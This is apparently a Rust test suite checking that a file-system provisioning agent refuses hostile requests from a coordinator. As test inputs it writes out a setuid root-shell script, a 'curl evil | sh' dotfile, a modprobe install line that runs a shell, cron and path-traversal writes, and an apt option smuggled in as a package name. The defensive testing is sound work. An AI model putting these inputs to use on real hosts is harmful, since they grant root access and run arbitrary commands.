//! Finding 1: a coordinator certificate must not be a remote root shell. Each request below is
//! one a real coordinator never sends; the agent's policy refuses it — as a whole unit, before
//! anything runs, for `--plan` dry runs too — naming the step, the rule and what to do. The
//! node is read back to show nothing changed, and the agent goes on serving.

use crate::harness::{self, Agent, Pki, step};
use pvfs_proto::pb;
use pvfs_proto::pb::step::Step as S;
use std::path::Path;

/// Sends `steps` as a dry run and as a real run; both must be refused with `rule`. Returns the
/// refusal's message.
async fn refused(agent: &Agent, steps: Vec<pb::Step>, rule: &str) -> String {
    let mut message = String::new();
    for dry_run in [true, false] {
        let request = pb::ApplyRequest {
            steps: steps.clone(),
            dry_run,
            after_changes: false,
            label: "hostile".into(),
            cluster_hosts: vec![],
        };
        let status = agent.apply_request(request).await.expect_err("the agent must refuse this unit");
        assert_eq!(status.code(), tonic::Code::PermissionDenied, "{status:?}");
        message = status.message().to_owned();
        assert!(
            message.contains(&format!("refused by policy rule `{rule}`")),
            "dry_run={dry_run}: {message}"
        );
        assert!(message.starts_with("the agent's policy refuses this unit: step "), "{message}");
    }
    agent.assert_still_serving().await;
    message
}

fn packages(apt: &[&str], repos: Vec<pb::Repo>) -> pb::Step {
    let list: Vec<pb::Package> =
        apt.iter().map(|n| pb::Package { name: (*n).into(), version: None }).collect();
    step(S::Packages(pb::PackagesStep {
        manager: pb::packages_step::Manager::Yum as i32,
        apt: list.clone(),
        rpm: list,
        repos,
    }))
}

fn exists(path: impl AsRef<Path>) -> bool {
    std::fs::symlink_metadata(path).is_ok()
}

#[tokio::test]
async fn a_setuid_file_is_refused_and_the_step_before_it_does_not_run() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let dir = harness::scratch("setuid");
    let before = format!("{}/before", dir.path().display());
    let shell = format!("{}/rootshell", dir.path().display());
    let message = refused(
        &agent,
        vec![
            harness::directory(&before, 0o755),
            harness::file(&shell, "#!/bin/sh\nexec /bin/sh -p\n", 0o4755),
        ],
        "file-mode",
    )
    .await;
    assert!(message.contains(&format!("step 2 (file {shell})")), "{message}");
    assert!(message.contains("has the setuid bit; use a mode such as 0644"), "{message}");
    assert!(!exists(&shell) && !exists(&before), "nothing was written, not even the allowed first step");
    agent.stop().await;
}

#[tokio::test]
async fn a_path_with_dot_dot_is_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let dir = harness::scratch("dotdot");
    // Resolves to /etc/pvfs-hostile-dotdot-<random>.
    let name = dir.path().file_name().unwrap().to_string_lossy().into_owned();
    let sneaky = format!("{}/../../etc/{name}", dir.path().display());
    refused(&agent, vec![harness::directory(&sneaky, 0o755)], "path-canonical").await;
    assert!(!exists(format!("/etc/{name}")));
    refused(&agent, vec![harness::file(&format!("{sneaky}.conf"), "x", 0o644)], "path-canonical").await;
    assert!(!exists(format!("/etc/{name}.conf")));
    agent.stop().await;
}

#[tokio::test]
async fn a_symlinked_target_is_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let dir = harness::scratch("symlink");
    // A data path on its face, /etc underneath.
    std::os::unix::fs::symlink("/etc", dir.path().join("link")).unwrap();
    let name = format!("{}-cron", dir.path().file_name().unwrap().to_string_lossy());
    let through = format!("{}/link/{name}", dir.path().display());
    let message =
        refused(&agent, vec![harness::file(&through, "* * * * * root id\n", 0o644)], "symlink").await;
    assert!(message.contains("link is a symbolic link (to /etc)"), "{message}");
    assert!(!exists(format!("/etc/{name}")));
    // A mount point behind a link, and a directory behind one: the same.
    let mount = step(S::Mount(pb::MountStep {
        source: "/dev/pvfs-hostile-none".into(),
        target: format!("{}/link/{name}", dir.path().display()),
        fstype: "xfs".into(),
        options: "defaults".into(),
        fstab: false,
    }));
    refused(&agent, vec![mount], "symlink").await;
    refused(&agent, vec![harness::directory(&through, 0o755)], "symlink").await;
    assert!(!exists(format!("/etc/{name}")));
    agent.stop().await;
}

#[tokio::test]
async fn files_outside_the_policy_are_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let cron = "/etc/cron.d/pvfs-hostile-job";
    let message =
        refused(&agent, vec![harness::file(cron, "* * * * * root id\n", 0o644)], "file-place").await;
    assert!(
        message.contains("/etc/cron.d/pvfs-hostile-job is not a place a file step may write"),
        "{message}"
    );
    assert!(!exists(cron));
    // Places only a typed step writes.
    for reserved in
        ["/etc/fstab", "/etc/udev/rules.d/99-pvfs-hostile.rules", "/etc/yum.repos.d/pvfs-hostile.repo"]
    {
        let before = std::fs::read(reserved).ok();
        refused(&agent, vec![harness::file(reserved, "x\n", 0o644)], "file-place").await;
        assert_eq!(std::fs::read(reserved).ok(), before, "{reserved} unchanged");
    }
    // A dotfile in a data path.
    let dir = harness::scratch("dotfile");
    let dotfile = format!("{}/.bashrc", dir.path().display());
    refused(&agent, vec![harness::file(&dotfile, "curl evil | sh\n", 0o644)], "path-hidden").await;
    assert!(!exists(&dotfile));
    agent.stop().await;
}

#[tokio::test]
async fn a_modprobe_install_line_is_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let conf = "/etc/modprobe.d/pvfs-hostile.conf";
    let message = refused(
        &agent,
        vec![harness::file(
            conf,
            "options lnet networks=tcp\ninstall lnet /bin/sh -c 'id > /tmp/owned'\n",
            0o644,
        )],
        "file-content",
    )
    .await;
    assert!(message.contains("an install or remove line runs a shell command as root"), "{message}");
    assert!(!exists(conf));
    agent.stop().await;
}

#[tokio::test]
async fn a_world_writable_directory_is_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let dir = harness::scratch("worldwritable");
    let open = format!("{}/open", dir.path().display());
    refused(&agent, vec![harness::directory(&open, 0o777)], "dir-mode").await;
    refused(&agent, vec![harness::directory(&open, 0o2755)], "dir-mode").await;
    assert!(!exists(&open));
    // And directories in system trees, whatever their mode.
    refused(&agent, vec![harness::directory("/usr/lib/pvfs-hostile", 0o755)], "system-tree").await;
    assert!(!exists("/usr/lib/pvfs-hostile"));
    agent.stop().await;
}

#[tokio::test]
async fn repositories_over_http_unsigned_elsewhere_or_misnamed_are_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let repo = |name: &str, baseurl: &str| pb::Repo {
        name: name.into(),
        baseurl: baseurl.into(),
        gpgkey: None,
        gpgcheck_disabled: true,
        allow_http: false,
        ..Default::default()
    };
    let message = refused(
        &agent,
        vec![packages(
            &["lustre"],
            vec![repo("pvfs-hostile", "http://downloads.whamcloud.com/public/lustre/")],
        )],
        "repo-url",
    )
    .await;
    assert!(message.contains("allow_http = true"), "{message}");
    refused(
        &agent,
        vec![packages(&["x"], vec![repo("pvfs-hostile", "https://evil.example.com/el7/")])],
        "repo-prefix",
    )
    .await;
    refused(
        &agent,
        vec![packages(
            &["x"],
            vec![repo("../../cron.d/pvfs-hostile", "https://downloads.whamcloud.com/public/")],
        )],
        "repo-name",
    )
    .await;
    assert!(!exists("/etc/yum.repos.d/pvfs-hostile.repo") && !exists("/etc/cron.d/pvfs-hostile.repo"));
    agent.stop().await;
}

#[tokio::test]
async fn a_package_name_starting_with_a_dash_is_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let marker = harness::scratch("dashpkg");
    let flag = format!("-oAPT::Update::Pre-Invoke::=touch {}/owned", marker.path().display());
    let message = refused(&agent, vec![packages(&[&flag], vec![])], "package-name").await;
    assert!(message.contains("never '-': that is an option"), "{message}");
    assert!(!exists(marker.path().join("owned")));
    agent.stop().await;
}

#[tokio::test]
async fn an_unknown_service_unit_is_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    for unit in ["debug-shell.service", "ssh.socket", "-.mount"] {
        let service = step(S::Service(pb::ServiceStep {
            unit: unit.into(),
            enabled: true,
            running: true,
            configs: vec![],
        }));
        let message = refused(&agent, vec![service], "service-unit").await;
        assert!(message.contains(unit), "{message}");
    }
    let out = std::process::Command::new("systemctl").args(["is-active", "debug-shell.service"]).output();
    if let Ok(out) = out {
        assert_ne!(String::from_utf8_lossy(&out.stdout).trim(), "active", "debug-shell was not started");
    }
    agent.stop().await;
}

#[tokio::test]
async fn a_mount_onto_a_non_empty_directory_is_refused() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let dir = harness::scratch("nonempty");
    let home = dir.path().join("home");
    std::fs::create_dir(&home).unwrap();
    std::fs::write(home.join("thesis.tex"), "years of work\n").unwrap();
    let mount = step(S::Mount(pb::MountStep {
        source: "/dev/pvfs-hostile-none".into(),
        target: home.display().to_string(),
        fstype: "xfs".into(),
        options: "defaults".into(),
        fstab: false,
    }));
    // The unit passes the checks on arrival (a data path, a device path); the step refuses
    // when it finds files where the mount would go, before anything is mounted.
    for dry_run in [true, false] {
        let request = pb::ApplyRequest {
            steps: vec![mount.clone()],
            dry_run,
            after_changes: false,
            label: "hostile".into(),
            cluster_hosts: vec![],
        };
        let done = agent.apply_request(request).await.expect("accepted, then refused by the step");
        let failure = done.failure().expect("the mount step failed");
        assert!(
            failure.starts_with(&format!(
                "refused by policy rule `mount-target`: {} is not empty (it holds \"thesis.tex\")",
                home.display()
            )),
            "dry_run={dry_run}: {failure}"
        );
    }
    let findmnt = std::process::Command::new("findmnt").arg("--mountpoint").arg(&home).output().unwrap();
    assert_eq!(findmnt.status.code(), Some(1), "nothing is mounted there");
    assert_eq!(std::fs::read_to_string(home.join("thesis.tex")).unwrap(), "years of work\n");
    // Mount options that write host files are refused on arrival.
    let logging = step(S::Mount(pb::MountStep {
        source: "10.0.0.5:/gv0".into(),
        target: format!("{}/empty", dir.path().display()),
        fstype: "glusterfs".into(),
        options: "defaults,log-file=/etc/cron.d/pvfs-hostile".into(),
        fstab: true,
    }));
    refused(&agent, vec![logging], "mount-options").await;
    agent.assert_still_serving().await;
    agent.stop().await;
}

#[tokio::test]
async fn a_site_policy_narrows_kinds_and_devices() {
    let pki = Pki::new();
    let site = pvfs_policy::Site {
        kinds: Some(vec!["mkfs".into(), "mount".into()]),
        devices: Some(vec!["/dev/disk/by-id/pvfs-hostile-data-*".into()]),
        ..Default::default()
    };
    let policy = pvfs_policy::Policy::new(site).unwrap();
    let agent = Agent::start_with(&pki, |s| s.policy = policy).await;
    let dir = harness::scratch("site");
    let made = format!("{}/made", dir.path().display());
    let message = refused(&agent, vec![harness::directory(&made, 0o755)], "kind-not-allowed").await;
    assert!(message.contains("add the kind to `kinds` in the agent's policy file"), "{message}");
    assert!(!exists(&made));
    let mkfs = step(S::Mkfs(pb::MkfsStep {
        device: "/dev/pvfs-hostile-os-disk".into(),
        fstype: "xfs".into(),
        options: vec![],
        label: None,
        wipe: true,
    }));
    let message = refused(&agent, vec![mkfs], "device-not-allowed").await;
    assert!(message.contains("/dev/disk/by-id/pvfs-hostile-data-*"), "{message}");
    // The default policy would have let both through its own checks.
    let default = pvfs_policy::Policy::default();
    assert!(
        default
            .check_step(&pvfs_steps::Step::Directory(pvfs_steps::Directory { path: made, mode: 0o755 }))
            .is_ok()
    );
    agent.stop().await;
}

/// A firewall step is the agent opening ports as root: only the file systems' own ports, in a
/// zone that is a zone name — never sshd's port, a whole range, or a zone path.
#[tokio::test]
async fn a_firewall_step_opens_only_the_file_systems_ports() {
    let pki = Pki::new();
    let agent = Agent::start(&pki).await;
    let port =
        |first: u32, last: u32| pb::PortRange { first, last, protocol: pb::port_range::Protocol::Tcp as i32 };
    let firewall = |ports: Vec<pb::PortRange>, zone: Option<&str>| {
        step(S::Firewall(pb::FirewallStep { ports, zone: zone.map(str::to_owned) }))
    };
    for ports in [vec![port(22, 22)], vec![port(1, 65535)], vec![port(988, 988), port(3306, 3306)]] {
        let message = refused(&agent, vec![firewall(ports, None)], "firewall-port").await;
        assert!(message.contains("is not a port pvfs's file systems listen on"), "{message}");
    }
    refused(&agent, vec![firewall(vec![port(988, 988)], Some("../../etc/firewalld/zones/x"))], "name").await;
    agent.stop().await;
}
